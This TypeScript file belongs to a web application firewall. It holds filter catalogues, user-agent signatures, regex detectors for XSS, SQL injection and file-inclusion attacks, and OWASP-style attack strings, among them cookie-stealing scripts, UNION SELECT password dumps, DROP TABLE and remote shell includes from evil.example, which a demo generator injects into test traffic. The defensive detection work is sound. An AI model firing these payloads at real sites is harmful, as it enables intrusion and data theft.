import type { FilterField, FilterOperator, WafCategory } from './index';

/**
 * Catalogues of website protection (issue #18): the rule-filter fields and operators
 * (GET rule-filter/list), the known clients by user-agent signature (GET client-app/list) and the
 * WAF signature set per attack category. Pure data, shared by the server, the engine and the forms.
 */

export interface FilterFieldInfo {
  field: FilterField;
  operators: FilterOperator[];
}

const TEXT_OPS: FilterOperator[] = ['equals', 'contains', 'startsWith', 'regex', 'in'];
export const RULE_FILTER_CATALOGUE: FilterFieldInfo[] = [
  { field: 'path', operators: TEXT_OPS },
  { field: 'query', operators: TEXT_OPS },
  { field: 'method', operators: ['equals', 'in'] },
  { field: 'clientIp', operators: ['equals', 'in'] },
  { field: 'country', operators: ['equals', 'in'] },
  { field: 'userAgent', operators: TEXT_OPS },
  { field: 'referer', operators: TEXT_OPS },
  { field: 'header', operators: TEXT_OPS },
];

export interface ClientApp {
  id: string;
  name: string;
  category: 'browser' | 'bot' | 'app' | 'tool';
  /** case-insensitive user-agent signature (a plain regular expression, linear) */
  signature: string;
}

/** Order matters: the first signature that matches names the client (Edge before Chrome before Safari). */
export const CLIENT_APPS: ClientApp[] = [
  { id: 'googlebot', name: 'Googlebot', category: 'bot', signature: 'Googlebot' },
  { id: 'bingbot', name: 'Bingbot', category: 'bot', signature: 'bingbot' },
  { id: 'baiduspider', name: 'Baiduspider', category: 'bot', signature: 'Baiduspider' },
  { id: 'yandexbot', name: 'YandexBot', category: 'bot', signature: 'YandexBot' },
  { id: 'ahrefsbot', name: 'AhrefsBot', category: 'bot', signature: 'AhrefsBot' },
  { id: 'wechat', name: 'WeChat', category: 'app', signature: 'MicroMessenger' },
  { id: 'alipay', name: 'Alipay', category: 'app', signature: 'AlipayClient' },
  { id: 'curl', name: 'curl', category: 'tool', signature: '^curl/' },
  { id: 'wget', name: 'Wget', category: 'tool', signature: '^Wget/' },
  { id: 'python-requests', name: 'Python requests', category: 'tool', signature: 'python-requests|Python-urllib' },
  { id: 'go-http', name: 'Go HTTP client', category: 'tool', signature: 'Go-http-client' },
  { id: 'sqlmap', name: 'sqlmap', category: 'tool', signature: 'sqlmap' },
  { id: 'edge', name: 'Microsoft Edge', category: 'browser', signature: 'Edg/' },
  { id: 'firefox', name: 'Firefox', category: 'browser', signature: 'Firefox/' },
  { id: 'chrome', name: 'Chrome', category: 'browser', signature: 'Chrome/' },
  { id: 'safari', name: 'Safari', category: 'browser', signature: 'Version/[0-9.]+ .*Safari/' },
];

const CLIENT_RES = CLIENT_APPS.map((c) => ({ id: c.id, re: new RegExp(c.signature, 'i') }));

// Real traffic carries few distinct user agents: the classification (16 signatures, first match
// wins) is remembered per user agent, up to CLIENT_MEMO_SIZE of them (then forgotten all at once).
const CLIENT_MEMO_SIZE = 4096;
const clientMemo = new Map<string, string | null>();

/** The known client a user agent belongs to, or null. */
export function clientAppOf(userAgent: string): string | null {
  const ua = userAgent.length > 1024 ? userAgent.slice(0, 1024) : userAgent;
  const known = clientMemo.get(ua);
  if (known !== undefined) return known;
  let id: string | null = null;
  for (const c of CLIENT_RES) {
    if (c.re.test(ua)) {
      id = c.id;
      break;
    }
  }
  if (clientMemo.size >= CLIENT_MEMO_SIZE) clientMemo.clear();
  clientMemo.set(ua, id);
  return id;
}

/**
 * WAF signatures per category, matched against the decoded path and query (and, for XSS and SQL
 * injection, the referer). Documented in docs/websites.md with the corpus the tests use.
 */
export const WAF_SIGNATURES: Record<WafCategory, Array<{ id: string; re: RegExp }>> = {
  xss: [
    { id: 'xss-script-tag', re: /<\s*script\b/i },
    { id: 'xss-js-uri', re: /javascript\s*:/i },
    { id: 'xss-event-handler', re: /<[^>]*\bon[a-z]{3,20}\s*=/i },
    { id: 'xss-dangerous-tag', re: /<\s*(iframe|object|embed|svg|img|body|base)\b[^>]*>?/i },
    { id: 'xss-dom-sink', re: /\b(document\.(cookie|write|location)|window\.location|eval\s*\()/i },
  ],
  sqli: [
    { id: 'sqli-union-select', re: /\bunion\b[\s\S]{0,40}?\bselect\b/i },
    { id: 'sqli-tautology', re: /['"`)]\s*(or|and)\s+['"`(]?\s*\w+\s*['"`)]?\s*(=|like)\s*['"`(]?\s*\w+/i },
    { id: 'sqli-numeric-tautology', re: /\b(or|and)\s+\d+\s*=\s*\d+/i },
    { id: 'sqli-stacked', re: /;\s*(drop|delete|insert|update|truncate|alter|create|exec)\b/i },
    { id: 'sqli-time-based', re: /\b(sleep|benchmark|pg_sleep|waitfor\s+delay)\s*[('"]/i },
    { id: 'sqli-comment-quote', re: /'\s*(--|#|\/\*)/ },
    { id: 'sqli-schema', re: /\b(information_schema|sysobjects|pg_catalog|sqlite_master)\b/i },
  ],
  illegalResource: [
    { id: 'lfi-traversal', re: /(^|[/\\])\.\.([/\\]|$)/ },
    { id: 'lfi-system-file', re: /\/(etc\/(passwd|shadow|hosts)|proc\/self\/|windows\/win\.ini|boot\.ini)/i },
    { id: 'res-dotfile', re: /\/\.(env|git|svn|hg|htaccess|htpasswd|ds_store|aws)(\/|$|\?)/i },
    { id: 'res-backup', re: /\.(bak|old|orig|swp|sql|tar\.gz|zip)(\?|$)/i },
    { id: 'res-config', re: /\/(wp-config\.php|web\.config|config\.php\.bak|phpinfo\.php)(\?|$)/i },
  ],
  rfi: [
    { id: 'rfi-remote-url-param', re: /[?&][^=&]{1,64}=\s*(https?|ftp|smb):\/\/[^&]*\.(php|txt|sh|pl|asp|jsp)?/i },
    { id: 'rfi-php-wrapper', re: /\b(php|data|expect|zip|phar|file):\/\//i },
    { id: 'rfi-include-param', re: /[?&](page|file|include|inc|template|path|load)=\s*(https?|ftp):\/\//i },
  ],
};

/** Percent-decodes up to twice (double encoding), tolerating malformed sequences; at most 8192 characters. */
export function decodeForInspection(s: string): string {
  let v = s.slice(0, 8192).replace(/\+/g, ' ');
  for (let i = 0; i < 2; i++) {
    try {
      const d = decodeURIComponent(v);
      if (d === v) break;
      v = d;
    } catch {
      v = v.replace(/%([0-9a-f]{2})/gi, (_m, h: string) => String.fromCharCode(parseInt(h, 16)));
      break;
    }
  }
  return v;
}

/** Signature ids of a category that match the text, in catalogue order. */
export function detect(category: WafCategory, text: string): string[] {
  return WAF_SIGNATURES[category].filter((s) => s.re.test(text)).map((s) => s.id);
}

/**
 * Attack strings per category (request paths with query, from the classic OWASP test strings) that
 * the signatures above detect: the demo event generator injects them into its generated traffic.
 */
export const WAF_ATTACK_SAMPLES: Record<WafCategory, string[]> = {
  xss: [
    '/search?q=<script>alert(1)</script>',
    '/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
    '/p?x=<img src=x onerror=alert(1)>',
    '/p?x=<svg/onload=alert(1)>',
    '/go?u=javascript:alert(1)',
    '/?a=<iframe src=//evil.example>',
    '/?n="><script>eval(atob(x))</script>',
  ],
  sqli: [
    "/item?id=1' OR '1'='1",
    '/item?id=1 UNION SELECT username,password FROM users',
    '/item?id=1; DROP TABLE users',
    "/login?u=admin'--",
    '/item?id=1 AND 1=1',
    '/item?id=1 OR sleep(5)',
    '/x?id=1 union all select null,table_name from information_schema.tables',
  ],
  rfi: [
    '/index.php?page=http://evil.example/shell.txt',
    '/index.php?file=ftp://evil.example/x.php',
    '/?p=php://input',
    '/?p=data://text/plain;base64,PD9waHA=',
    '/?template=http://evil.example/t',
  ],
  illegalResource: [
    '/../../etc/passwd',
    '/static/..%2f..%2fetc/passwd',
    '/.env',
    '/.git/config',
    '/backup.sql',
    '/wp-config.php',
    '/.htaccess',
    '/index.php.bak',
  ],
};
